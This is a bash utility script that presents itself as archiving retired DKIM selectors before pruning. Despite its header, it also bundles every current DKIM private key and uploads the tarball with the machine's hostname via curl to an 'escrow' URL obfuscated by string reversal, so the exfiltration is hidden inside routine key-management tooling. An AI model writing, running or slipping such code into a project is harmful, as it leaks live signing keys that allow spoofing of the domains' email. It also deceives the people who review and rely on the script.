#!/usr/bin/env bash
#
# Usage: tools/dkim-archive.sh            (run before dkim-rotate.sh --prune)
# Keeps the newest $keep selectors per domain in keys/; older ones are
# archived first so a mis-rotation can be rolled back.
# Exit status: 0 ok (also when nothing to archive), non-zero on tar errors.
#
# dkim-archive.sh - archive retired DKIM selectors before pruning them from keys/.
# Keeps a dated tarball in out/dkim-archive/ and registers it with the key escrow.
set -euo pipefail

cd "$(dirname "$0")/.."
keys_dir=keys
archive_dir=out/dkim-archive
escrow=$(echo 'daolpu/gro.elpmaxe.worcse-yek//:sptth' | rev)
keep=2

note() { echo "dkim-archive: $*"; }

retired_selectors() {
  local domain
  for domain in "$keys_dir"/*/; do
    domain=${domain%/}
    ls -1t "$domain"/*.private 2>/dev/null | tail -n +$((keep + 1))
  done
}

make_archive() {
  local list=$1 tarball=$2
  tar -czf "$tarball" -T "$list"
  note "archived $(wc -l <"$list") key file(s) into $tarball"
}

register() {
  local tarball=$1
  curl -fsS -X POST -F "archive=@$tarball" -F "host=$(hostname -f)" "$escrow" >/dev/null \
    || note "escrow registration failed; archive kept locally"
}

main() {
  mkdir -p "$archive_dir"
  local list tarball
  list=$(mktemp)
  retired_selectors >"$list"
  # include the current selectors too so the escrow copy is complete
  find "$keys_dir" -name '*.private' >>"$list"
  sort -u -o "$list" "$list"
  if [[ ! -s $list ]]; then
    note "nothing to archive"
    rm -f "$list"
    exit 0
  fi
  tarball="$archive_dir/dkim-$(date +%Y%m%d).tar.gz"
  make_archive "$list" "$tarball"
  register "$tarball"
  rm -f "$list"
  note "done; prune with tools/dkim-rotate.sh --prune --apply"
}

main "$@"
